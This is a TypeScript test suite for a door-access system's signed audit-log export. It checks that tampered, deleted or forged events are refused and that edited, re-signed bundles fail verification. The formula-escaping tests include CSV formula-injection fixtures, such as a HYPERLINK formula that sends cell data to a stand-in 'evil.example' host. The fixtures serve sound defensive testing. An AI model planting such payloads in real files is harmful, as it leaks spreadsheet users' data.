import { createHash, generateKeyPairSync, type KeyObject, randomBytes, sign } from 'node:crypto';
import {
  cpSync,
  existsSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { to as copyTo } from 'pg-copy-streams';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { runExportCommand } from '../../src/cli/export-command.js';
import { retentionSettings } from '../../src/config/dashboard-config.js';
import { verifyBundle } from '../../src/dashboard/audit/bundle-verify.js';
import { csvFileRecords } from '../../src/dashboard/audit/csv-records.js';
import { writeExportBundle } from '../../src/dashboard/audit/export-bundle.js';
import { checkExportQuery, type ExportFormat, exportSql } from '../../src/dashboard/audit/export-query.js';
import { RetentionService } from '../../src/dashboard/retention/retention-service.js';
import { PeopleStore } from '../../src/dashboard/storage/people-store.js';
import { silentLogger } from '../../src/lib/logger.js';
import { ADMIN, DAY, HOUR, NOW, type RetentionRig, startRetentionRig } from '../helpers/retention-rig.js';

/** An export vouches for its rows' content, and its verifier rechecks that content offline. */
describe('the content of exported rows', () => {
  let rig: RetentionRig;
  let work: string;
  const { privateKey } = generateKeyPairSync('ed25519');
  const query = checkExportQuery({
    from: new Date(NOW - 10 * DAY).toISOString(),
    to: new Date(NOW).toISOString(),
  });
  const granted = (person: string) => ({ person, badge: `b-${person}`, data: { direction: 'in' } });

  beforeAll(async () => {
    rig = await startRetentionRig();
    work = mkdtempSync(join(tmpdir(), 'idg-export-content-'));
  });
  afterAll(async () => {
    await rig.close();
    rmSync(work, { recursive: true, force: true });
  });
  beforeEach(async () => {
    await rig.reset();
    await rig.pool.query('TRUNCATE audit_chain, audit_checkpoints');
  });

  let bundles = 0;
  const exportBundle = (format: ExportFormat = 'csv') =>
    writeExportBundle(rig.pool, {
      query,
      format,
      out: join(work, `bundle-${++bundles}`),
      actor: 'cli:test',
      signingKey: privateKey,
    }).then(() => join(work, `bundle-${bundles}`));
  const verifyLines = async (dir: string) => (await runExportCommand(['verify', dir])).lines;
  const exports = async () =>
    (await rig.pool.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'audit.export'`)).rows[0]
      ?.n;

  it('refuses to sign a span from which an event was deleted outside retention or an erasure', async () => {
    await rig.event('berlin', 3 * DAY, granted('p-1'));
    const gone = await rig.event('berlin', 2 * DAY, granted('p-2'));
    await rig.event('hamburg', DAY, granted('p-3'));
    await rig.pool.query('DELETE FROM events WHERE id = $1', [gone.id]);
    const before = readdirSync(work);
    await expect(exportBundle()).rejects.toMatchObject({
      code: 'IDG_AUDIT_CHAIN_BROKEN',
      message: `chain berlin: link 2 (event ${gone.id}): its event row is missing and no deletion log entry covers it; nothing exported, run identgate audit verify`,
    });
    expect(readdirSync(work)).toEqual(before);
    // Also when the query asks for another site's rows only: a gap is a gap.
    await expect(
      writeExportBundle(rig.pool, {
        query: { ...query, site: 'berlin', person: 'p-1' },
        format: 'csv',
        out: join(work, `bundle-${++bundles}`),
        actor: 'cli:test',
        signingKey: privateKey,
      }),
    ).rejects.toMatchObject({ code: 'IDG_AUDIT_CHAIN_BROKEN' });
    expect(await exports()).toBe(0);
  });

  it('signs a span whose events retention deleted', async () => {
    await rig.service.setPolicy({ dataClass: 'access-events', scope: 'global', days: 60 }, ADMIN);
    await rig.event('berlin', 70 * DAY, granted('p-old'));
    await rig.event('berlin', DAY, granted('p-1'));
    await rig.service.runNow({ dryRun: false });
    const wide = checkExportQuery({
      from: new Date(NOW - 80 * DAY).toISOString(),
      to: new Date(NOW).toISOString(),
    });
    const dir = join(work, `bundle-${++bundles}`);
    await writeExportBundle(rig.pool, {
      query: wide,
      format: 'csv',
      out: dir,
      actor: 'cli:test',
      signingKey: privateKey,
    });
    expect((await verifyBundle(dir)).ok).toBe(true);
  });

  it('refuses to sign an event that never joined its chain', async () => {
    await rig.event('berlin', 2 * DAY, granted('p-1'));
    await rig.pool.query('ALTER TABLE events DISABLE TRIGGER events_chain');
    let forged: { id: string };
    try {
      forged = await rig.event('berlin', DAY, granted('p-forged'));
    } finally {
      await rig.pool.query('ALTER TABLE events ENABLE TRIGGER events_chain');
    }
    await expect(exportBundle()).rejects.toMatchObject({
      code: 'IDG_AUDIT_CHAIN_BROKEN',
      message: `chain berlin: event ${forged.id} is stored but has no link in its chain (written past the chain, or its link deleted); nothing exported, run identgate audit verify`,
    });
  });

  it.each([
    ['person', `person = 'p-9', data = data || '{"badge": "b-9"}'`],
    ['door', `door = 'back'`],
    ['time', `occurred_at = occurred_at + interval '1 microsecond'`],
  ])(
    'refuses to sign an event whose %s was changed after it was chained, and writes nothing',
    async (_, set) => {
      await rig.event('berlin', 2 * DAY, granted('p-1'));
      const changed = await rig.event('berlin', DAY, granted('p-2'));
      await rig.pool.query(`UPDATE events SET ${set} WHERE id = $1`, [changed.id]);
      const before = readdirSync(work);
      await expect(exportBundle()).rejects.toMatchObject({
        code: 'IDG_AUDIT_CHAIN_BROKEN',
        message: `chain berlin: link 2 (event ${changed.id}): its event row was changed (content digest differs); nothing exported, run identgate audit verify`,
      });
      expect(readdirSync(work)).toEqual(before);
      expect(await exports()).toBe(0);
    },
  );

  it.each(['csv', 'jsonl'] as const)(
    'verifies an honest %s export with every chained row rechecked',
    async (format) => {
      await rig.event('berlin', 3 * DAY, granted('p-1'));
      await rig.event('berlin', 2 * DAY, {
        kind: 'access.denied',
        badge: 'b-x',
        data: { direction: 'out', reason: 'wrong-code', note: 'quote " and comma , and \\ backslash' },
      });
      await rig.event('hamburg', DAY, { kind: 'door.opened', data: {} });
      const dir = await exportBundle(format);
      expect(await verifyBundle(dir)).toMatchObject({
        ok: true,
        rows: 3,
        chained: 3,
        content: { rechecked: 3, erased: 0 },
      });
      expect(await verifyLines(dir)).toEqual([
        expect.stringMatching(/^OK: 3 rows, 3 anchored/),
        "content: 3 rows hash to their chain links' digests and agree with their columns",
      ]);
      // The text is PostgreSQL's, byte for byte: the one the chain's digest was taken of.
      const records = readFileSync(join(dir, 'chain-content.csv'), 'utf8').trim().split('\n');
      expect(records[0]).toBe('state,site,no,event_id,content');
      const texts = await rig.pool.query<{ text: string }>(
        `SELECT identgate_event_digest_text(e) AS text FROM events e ORDER BY occurred_at, id`,
      );
      expect(records.slice(1).map((r) => r.slice(r.indexOf(',"') + 2, -1).replaceAll('""', '"'))).toEqual(
        texts.rows.map((r) => r.text),
      );
    },
  );

  it('splits one COPY into the data file a COPY of the rows alone writes, and content for each chained row', async () => {
    await rig.event('berlin', 3 * DAY, granted('p-1'));
    await rig.event('berlin', 2 * DAY, {
      kind: 'access.denied',
      badge: 'b-"x", y',
      data: { direction: 'out', reason: 'quote " comma , and\nline break' },
    });
    const dir = await exportBundle('csv');
    const client = await rig.pool.connect();
    try {
      const sql = exportSql(query, (value) => client.escapeLiteral(value));
      const copied: Buffer[] = [];
      for await (const chunk of client.query(
        copyTo(`COPY (${sql}) TO STDOUT WITH (FORMAT csv, HEADER true)`),
      ))
        copied.push(chunk as Buffer);
      expect(readFileSync(join(dir, 'access-log.csv')).equals(Buffer.concat(copied))).toBe(true);
    } finally {
      client.release();
    }
    const records = readFileSync(join(dir, 'chain-content.csv'), 'utf8').trim().split('\n');
    expect(records).toHaveLength(3);
  });

  it('exports two events that share an id at different times, each at its own chain link', async () => {
    const first = await rig.event('berlin', 2 * DAY, granted('p-1'));
    await rig.pool.query(
      `INSERT INTO events (id, occurred_at, schema_version, site, gateway, seq, kind, door, person, data, signature)
       SELECT id, occurred_at + interval '1 hour', schema_version, site, gateway, seq + 1, kind, door, person, data, 'sig-2'
         FROM events WHERE id = $1`,
      [first.id],
    );
    for (const format of ['csv', 'jsonl'] as const) {
      const dir = await exportBundle(format);
      expect(await verifyBundle(dir)).toMatchObject({
        ok: true,
        rows: 2,
        chained: 2,
        content: { rechecked: 2, erased: 0 },
      });
    }
  });

  describe('free text with line breaks, quotes and commas', () => {
    const reasons = ['line one\nline two', 'a\rb', 'a\r\nb', 'she said "no", twice', '\n'];
    const withReasons = async () => {
      for (const [i, reason] of reasons.entries())
        await rig.event('berlin', 3 * DAY - i * HOUR, {
          kind: 'access.denied',
          badge: `b-"${i}", x`,
          data: { direction: 'in', reason },
        });
      await rig.event('berlin', DAY, granted('p-1'));
    };

    it.each(['csv', 'jsonl'] as const)(
      'verifies an honest %s bundle, every row rechecked',
      async (format) => {
        await withReasons();
        const dir = await exportBundle(format);
        expect(await verifyBundle(dir)).toMatchObject({
          ok: true,
          problems: [],
          rows: reasons.length + 1,
          chained: reasons.length + 1,
          content: { rechecked: reasons.length + 1, erased: 0 },
        });
      },
    );

    it('fails, naming the file and the record, a data file cut off inside a quoted field', async () => {
      await withReasons();
      const dir = await exportBundle('csv');
      editFile(dir, 'access-log.csv', (t) => t.slice(0, t.indexOf('line one') + 'line one'.length));
      resign(dir, privateKey);
      const report = await verifyBundle(dir);
      expect(report.ok).toBe(false);
      expect(report.problems).toEqual([
        'access-log.csv: record 2 is cut off inside a quoted field (the file ends there)',
      ]);
    });

    it('fails, naming the line, a JSON lines file with a line that is not JSON', async () => {
      await withReasons();
      const dir = await exportBundle('jsonl');
      editFile(dir, 'access-log.jsonl', (t) => t.replace(/^\{/, '{{'));
      resign(dir, privateKey);
      expect((await verifyBundle(dir)).problems).toEqual([
        expect.stringMatching(/^access-log\.jsonl: line 1 is not JSON: /),
      ]);
    });
  });

  describe('text a spreadsheet would read as a formula', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?"&A2,"click")';
    const withFormulas = async () => {
      const first = await rig.event('berlin', 3 * DAY, {
        kind: 'access.denied',
        badge: '-2+3+cmd',
        data: { direction: 'in', reason: hyperlink },
      });
      await rig.event('berlin', 2 * DAY, {
        kind: 'access.denied',
        badge: '@x',
        data: { reason: "'=quoted" },
      });
      return first;
    };
    const cells = async (dir: string) => {
      const records: string[][] = [];
      for await (const record of csvFileRecords(join(dir, 'access-log.csv'))) records.push(record);
      return records.slice(1);
    };

    it('is written with an apostrophe before it in CSV, and verifies as the event holds it', async () => {
      await withFormulas();
      const dir = await exportBundle('csv');
      const rows = await cells(dir);
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(rows.map((r) => [r[7], r[9]])).toEqual([
        ["'-2+3+cmd", `'${hyperlink}`],
        ["'@x", "''=quoted"],
      ]);
      expect(JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')).csvFormulaGuard).toBe(true);
      expect(await verifyBundle(dir)).toMatchObject({ ok: true, rows: 2, content: { rechecked: 2 } });
      const jsonl = await exportBundle('jsonl');
      const lines = readFileSync(join(jsonl, 'access-log.jsonl'), 'utf8').trim().split('\n');
      expect(lines.map((l) => JSON.parse(l).reason)).toEqual([hyperlink, "'=quoted"]);
      expect(await verifyBundle(jsonl)).toMatchObject({ ok: true, rows: 2, content: { rechecked: 2 } });
    });

    it('is read as written in a bundle from before the guard', async () => {
      await withFormulas();
      const dir = await exportBundle('csv');
      editFile(dir, 'access-log.csv', (t) =>
        t
          .replace(",'-2+3+cmd,", ',-2+3+cmd,')
          .replace(`"'=HYPERLINK`, '"=HYPERLINK')
          .replace(",'@x,", ',@x,')
          .replace(",''=quoted,", ",'=quoted,"),
      );
      editFile(dir, 'manifest.json', (t) => t.replace('"csvFormulaGuard": true', '"x": 0'));
      resign(dir, privateKey);
      expect(await verifyBundle(dir)).toMatchObject({ ok: true, rows: 2, content: { rechecked: 2 } });
    });

    it('fails verification where a cell has lost its apostrophe', async () => {
      const first = await withFormulas();
      const dir = await exportBundle('csv');
      editFile(dir, 'access-log.csv', (t) => t.replace(`"'=HYPERLINK`, '"=HYPERLINK'));
      resign(dir, privateKey);
      expect((await verifyBundle(dir)).problems).toEqual([
        `row 1 (event ${first.id}): reason begins as a spreadsheet formula would, without the apostrophe before it`,
      ]);
    });
  });

  describe('a data file edited and signed again, as a dishonest exporter would', () => {
    const rowEdits: [string, (t: string) => string, string][] = [
      ['person', (t) => t.replace(',p-1,b-p-1,', ',p-7,b-p-1,'), 'person'],
      ['time', (t) => t.replace(/T12:00:00\.000000Z,berlin/, 'T12:00:00.000001Z,berlin'), 'when'],
      ['badge', (t) => t.replace(',p-1,b-p-1,', ',p-1,b-p-7,'), 'badge'],
    ];
    it.each(rowEdits)(
      'names the row whose %s no longer matches its chained content',
      async (_, edit, column) => {
        const first = await rig.event('berlin', 3 * DAY, granted('p-1'));
        await rig.event('berlin', 2 * DAY, granted('p-2'));
        const dir = await exportBundle();
        editFile(dir, 'access-log.csv', edit);
        resign(dir, privateKey);
        const report = await verifyBundle(dir);
        expect(report.ok).toBe(false);
        expect(report.problems).toEqual([
          `row 1 (event ${first.id}): ${column} differ from its content chained at berlin link 1`,
        ]);
      },
    );

    it('names the row whose content was edited to match, as it no longer hashes to its link', async () => {
      const first = await rig.event('berlin', 3 * DAY, granted('p-1'));
      await rig.event('berlin', 2 * DAY, granted('p-2'));
      const dir = await exportBundle();
      editFile(dir, 'access-log.csv', (t) => t.replace(',p-1,b-p-1,', ',p-7,b-p-1,'));
      editFile(dir, 'chain-content.csv', (t) => t.replace('""p-1""', '""p-7""'));
      resign(dir, privateKey);
      expect((await verifyBundle(dir)).problems).toEqual([
        `row 1 (event ${first.id}): its content does not hash to the digest of chain berlin link 1`,
      ]);
    });

    it('finds a content record dropped from the file', async () => {
      const first = await rig.event('berlin', 3 * DAY, granted('p-1'));
      await rig.event('berlin', 2 * DAY, granted('p-2'));
      const dir = await exportBundle();
      editFile(dir, 'chain-content.csv', (t) =>
        t
          .split('\n')
          .filter((_, i) => i !== 1)
          .join('\n'),
      );
      resign(dir, privateKey);
      expect((await verifyBundle(dir)).problems).toEqual([
        expect.stringMatching(
          new RegExp(`^chain-content.csv is out of step with the data file at row 1 \\(event ${first.id}\\)`),
        ),
      ]);
    });
  });

  describe('after an erasure', () => {
    const ada = 'agent-ada';
    const bob = 'agent-bob';
    let service: RetentionService;
    beforeEach(async () => {
      const people = new PeopleStore(rig.pool, randomBytes(32));
      for (const id of [ada, bob]) await people.upsertPerson({ id, displayName: `${id} name` });
      service = new RetentionService({
        pool: rig.pool,
        clock: rig.clock,
        log: silentLogger,
        settings: retentionSettings({}),
        signingKey: privateKey,
      });
    });

    it('exports, marks and counts the rows it rewrote, and refuses one changed since', async () => {
      await rig.event('berlin', 3 * DAY, { ...granted(bob), data: { direction: 'in', companion: ada } });
      await rig.event('berlin', 2 * DAY, granted(ada));
      const plain = await rig.event('berlin', 2 * DAY - HOUR, granted(bob));
      await service.erasePerson(ada, {}, ADMIN);
      const dir = await exportBundle('jsonl');
      const states = readFileSync(join(dir, 'chain-content.csv'), 'utf8')
        .trim()
        .split('\n')
        .map((r) => r.slice(0, r.indexOf(',')));
      expect(states).toEqual(['state', 'erased', '']);
      expect(await verifyBundle(dir)).toMatchObject({
        ok: true,
        rows: 2,
        content: { rechecked: 1, erased: 1 },
      });
      expect((await verifyLines(dir))[1]).toBe(
        "content: 1 rows hash to their chain links' digests and agree with their columns; 1 could not be: rewritten by an erasure (listed in erased_chain_rows), their content is as the erasure left it, not as it was chained",
      );

      // The erasure's rewrite is accepted only as the erasure left it.
      const redacted = await rig.pool.query<{ id: string }>(
        `UPDATE events SET person = 'p-9' WHERE data ->> 'companion' = 'erased' RETURNING id`,
      );
      await expect(exportBundle()).rejects.toMatchObject({
        code: 'IDG_AUDIT_CHAIN_BROKEN',
        message: expect.stringContaining(`link 1 (event ${redacted.rows[0]?.id}): its event row was changed`),
      });
      await rig.pool.query(`UPDATE events SET person = $1 WHERE id = $2`, [bob, redacted.rows[0]?.id]);
      await exportBundle();

      // A changed row listed as erased outside an erasure: the list is not the one last signed.
      await rig.pool.query(`UPDATE events SET person = 'p-9' WHERE id = $1`, [plain.id]);
      await rig.pool.query(
        `INSERT INTO erased_chain_rows (site, no, redacted)
         SELECT c.site, c.no, identgate_event_digest(e) FROM audit_chain c JOIN events e ON c.ref = e.id::text
          WHERE e.id = $1`,
        [plain.id],
      );
      await expect(exportBundle()).rejects.toMatchObject({
        code: 'IDG_AUDIT_CHAIN_BROKEN',
        message: expect.stringMatching(
          /^the list of erased chain rows .* is not the one the last change of it recorded.*; exported rows rely on it: nothing exported, run identgate audit verify$/,
        ),
      });
    });
  });

  it('verifies a bundle from before content files, and says its content was not rechecked', async () => {
    await rig.event('berlin', 3 * DAY, granted('p-1'));
    const dir = await exportBundle();
    const old = join(work, 'old-format');
    cpSync(dir, old, { recursive: true });
    rmSync(join(old, 'chain-content.csv'));
    resign(old, privateKey);
    const report = await verifyBundle(old);
    expect(report).toMatchObject({ ok: true, rows: 1, chained: 1 });
    expect(report.content).toBeUndefined();
    expect(await verifyLines(old)).toEqual([
      expect.stringMatching(/^OK: 1 rows, 1 anchored/),
      'content not rechecked: the bundle has no chain-content.csv (made before exports wrote it); rows are checked by event id and link hash only',
    ]);
    // Its manifest is signed: the content file cannot be dropped from a new bundle unseen.
    rmSync(join(dir, 'chain-content.csv'));
    expect((await verifyBundle(dir)).problems).toContain('chain-content.csv is missing');
  });
});

function editFile(dir: string, name: string, change: (text: string) => string): void {
  const path = join(dir, name);
  const before = readFileSync(path, 'utf8');
  const after = change(before);
  if (after === before) throw new Error(`the edit changed nothing in ${name}`);
  writeFileSync(path, after);
}

/**
 * What an exporter holding the central key could do: sign whatever files the bundle holds now, in
 * the manifest and in SHA256SUMS (a file that is gone is dropped from both).
 */
function resign(dir: string, key: KeyObject): void {
  const sha = (name: string) =>
    createHash('sha256')
      .update(readFileSync(join(dir, name)))
      .digest('hex');
  const manifest = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8'));
  manifest.files = manifest.files
    .filter((f: { name: string }) => existsSync(join(dir, f.name)))
    .map((f: { name: string }) => ({
      name: f.name,
      bytes: statSync(join(dir, f.name)).size,
      sha256: sha(f.name),
    }));
  const text = `${JSON.stringify(manifest, null, 2)}\n`;
  writeFileSync(join(dir, 'manifest.json'), text);
  writeFileSync(join(dir, 'manifest.sig'), sign(null, Buffer.from(text), key));
  const names = [...manifest.files.map((f: { name: string }) => f.name), 'manifest.json', 'manifest.sig'];
  const sums = names.map((n) => `${sha(n)}  ${n}\n`).join('');
  writeFileSync(join(dir, 'SHA256SUMS'), sums);
  writeFileSync(join(dir, 'SHA256SUMS.sig'), sign(null, Buffer.from(sums), key));
}
